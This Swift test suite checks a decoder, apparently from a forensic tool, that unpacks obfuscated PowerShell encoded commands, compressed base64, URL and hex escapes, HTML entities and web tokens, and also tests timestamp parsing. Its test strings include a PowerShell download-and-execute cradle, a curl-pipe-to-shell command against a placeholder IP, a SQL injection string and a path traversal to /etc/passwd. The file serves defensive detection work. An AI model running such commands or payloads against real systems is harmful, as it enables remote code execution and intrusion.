import CZlib
import Casefile
import Decoding
import Foundation
import Testing

@Suite("Encoded text is read")
struct TextDecoderTests {
  private static func wide(_ text: String) -> String {
    Data(text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }).base64EncodedString()
  }

  private static func packed(_ text: String, bits: Int32) -> Data {
    var stream = z_stream()
    guard zlib_begin_deflate_bits(&stream, bits) == Z_OK else { return Data() }
    defer { deflateEnd(&stream) }
    var input = Array(text.utf8)
    var out = [UInt8](repeating: 0, count: 1 << 20)
    let count = input.withUnsafeMutableBufferPointer { bytes in
      out.withUnsafeMutableBufferPointer { buffer in
        stream.next_in = bytes.baseAddress
        stream.avail_in = UInt32(bytes.count)
        stream.next_out = buffer.baseAddress
        stream.avail_out = UInt32(buffer.count)
        _ = deflate(&stream, Z_FINISH)
        return buffer.count - Int(stream.avail_out)
      }
    }
    return Data(out.prefix(count))
  }

  private static let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"

  @Test(
    "PowerShell's encoded command is read behind every spelling of the switch",
    arguments: ["-enc", "-e", "-ec", "-EncodedCommand", "-encod", "/enc", "–enc", "-^e^nc", "-enc:"])
  func encodedCommand(flag: String) throws {
    let found = TextDecoder.decoded("powershell.exe -nop -w hidden \(flag) \(Self.wide(Self.script))")
    #expect(found.map(\.text) == [Self.script])
    #expect(found.first?.label == "base64 UTF-16")
  }

  @Test("A short encoded command without its padding is read behind the switch, and nowhere else")
  func shortCommand() {
    #expect(TextDecoder.decoded("powershell -e dwBoAG8AYQBtAGkA").map(\.text) == ["whoami"])
    #expect(TextDecoder.decoded("powershell -enc 'bABzACAALQBsAA=='").map(\.text) == ["ls -l"])
    #expect(TextDecoder.decoded("powershell -enc " + Self.wide("Привет, мир")).map(\.text) == ["Привет, мир"])
  }

  @Test("The place of what was decoded is told in bytes of the original")
  func range() throws {
    let code = Data("curl http://198.51.100.7/x | sh".utf8).base64EncodedString()
    let text = "é echo \(code) | base64 -d"
    let found = try #require(TextDecoder.decoded(text).first)
    #expect(found.text == "curl http://198.51.100.7/x | sh")
    #expect(String(decoding: Array(text.utf8)[found.range], as: UTF8.self) == code)
  }

  @Test("Gzip, zlib and bare deflate inside base64 are unpacked as scripts write them")
  func packed() {
    let gzip = Self.packed(Self.script, bits: 31).base64EncodedString()
    let zlib = Self.packed(Self.script, bits: 15).base64EncodedString()
    let bare = Self.packed(Self.script, bits: -15).base64EncodedString()
    #expect(TextDecoder.decoded("[Convert]::FromBase64String('\(gzip)')").map(\.text) == [Self.script])
    #expect(TextDecoder.decoded("x=\"\(zlib)\"").map(\.label) == ["base64 zlib"])
    let deflated = TextDecoder.decoded("New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('\(bare)'))")
    #expect(deflated.map(\.text) == [Self.script])
    #expect(deflated.first?.label == "base64 deflate")
  }

  @Test("Layers are undone one after the other, five at most")
  func layers() throws {
    let inner = "IEX((New-Object IO.StreamReader('\(Self.packed(Self.script, bits: 31).base64EncodedString())')))"
    let found = TextDecoder.decoded("powershell -enc \(Self.wide(inner))")
    #expect(found.map(\.label) == ["base64 UTF-16", "base64 UTF-16 › base64 gzip"])
    #expect(found.last?.text == Self.script)
    var text = "the innermost text of them all"
    for _ in 0..<8 { text = Data(text.utf8).base64EncodedString() }
    #expect(TextDecoder.decoded(text).map(\.layers.count).max() == DecodingLimits.depth)
  }

  @Test("Addresses, once and twice, escapes, hex, HTML numbers and web tokens are read")
  func others() {
    #expect(TextDecoder.decoded("GET /a?q=%27%20OR%201%3D1--").map(\.text) == ["/a?q=' OR 1=1--"])
    #expect(TextDecoder.decoded("/a%252e%252e%252fetc/passwd").map(\.text) == ["/a%2e%2e%2fetc/passwd", "/a../etc/passwd"])
    #expect(TextDecoder.decoded("unescape('%u0041%u006c%u0065%u0072%u0074')").map(\.text).first?.contains("Alert") == true)
    #expect(TextDecoder.decoded("printf '\\x63\\x75\\x72\\x6c'").map(\.text) == ["curl"])
    #expect(TextDecoder.decoded("0x6375726c20687474703a2f2f78").map(\.text) == ["curl http://x"])
    #expect(TextDecoder.decoded("6375726c20687474703a2f2f78").map(\.label) == ["hex"])
    #expect(TextDecoder.decoded("a &#x3C;script&#62; b").map(\.text) == ["a <script> b"])
    let claims = Data("{\"sub\":\"alice\",\"scope\":\"admin\"}".utf8).base64EncodedString().replacing("=", with: "")
    #expect(TextDecoder.decoded("Bearer eyJhbGciOiJIUzI1NiJ9.\(claims).AAAA").map(\.text) == ["{\"sub\":\"alice\",\"scope\":\"admin\"}"])
  }

  @Test("A bomb gives its beginning, and says that it was cut")
  func bomb() throws {
    let bomb = Self.packed(String(repeating: "A quick brown fox. ", count: 2_000_000), bits: 31)
    let found = try #require(TextDecoder.decoded("'\(bomb.base64EncodedString())'").first)
    #expect(found.isCut)
    #expect(found.text.utf8.count <= DecodingLimits.outputBytes)
    let long = Data(String(repeating: "echo hello; ", count: 100_000).utf8).base64EncodedString()
    let cut = try #require(TextDecoder.decoded(long).first)
    #expect(cut.isCut)
    #expect(cut.text.utf8.count < DecodingLimits.inputBytes)
  }

  @Test("Any bytes are safe, in time that grows with the text alone")
  func hostile() {
    var generator = SystemRandomNumberGenerator()
    for round in 0..<300 {
      let bytes = (0..<round * 7).map { _ in UInt8.random(in: 0...255, using: &generator) }
      _ = bytes.withUnsafeBufferPointer { TextDecoder.decoded($0) }
      _ = TextDecoder.decoded("-enc " + Data(bytes).base64EncodedString())
    }
    let clock = ContinuousClock()
    for piece in ["%41", "Ab1+", "&#65;", "\\x41", "-e Abcdefgh1 ", "eyJhbGciOiJI.", "Aa0= ", "=", "0x"] {
      let text = String(repeating: piece, count: 1_000_000 / piece.utf8.count)
      #expect(clock.measure { _ = TextDecoder.decoded(text) } < .seconds(4), "\(piece)")
    }
  }

  @Test("Numbers are moments only where their column says so")
  func epoch() {
    #expect(EpochTime.reading(of: .long(1_700_000_000), column: "LastSeen")?.moment.text(decimals: 0) == "2023-11-14T22:13:20Z")
    #expect(EpochTime.reading(of: .string("1700000000123"), column: "event_time")?.label == "milliseconds since 1970")
    #expect(EpochTime.reading(of: .long(133_444_736_000_000_000), column: "CreationTime")?.label == "Windows file time")
    #expect(EpochTime.reading(of: .long(638_355_968_000_000_000), column: "StartTime")?.label == ".NET ticks")
    #expect(EpochTime.reading(of: .long(1_700_000_000), column: "ProcessId") == nil)
    #expect(EpochTime.reading(of: .long(4), column: "TimeTaken") == nil)
    #expect(EpochTime.reading(of: .string("17000000001x"), column: "Time") == nil)
    #expect(EpochTime.reading(of: .real(.nan), column: "Time") == nil)
  }
}
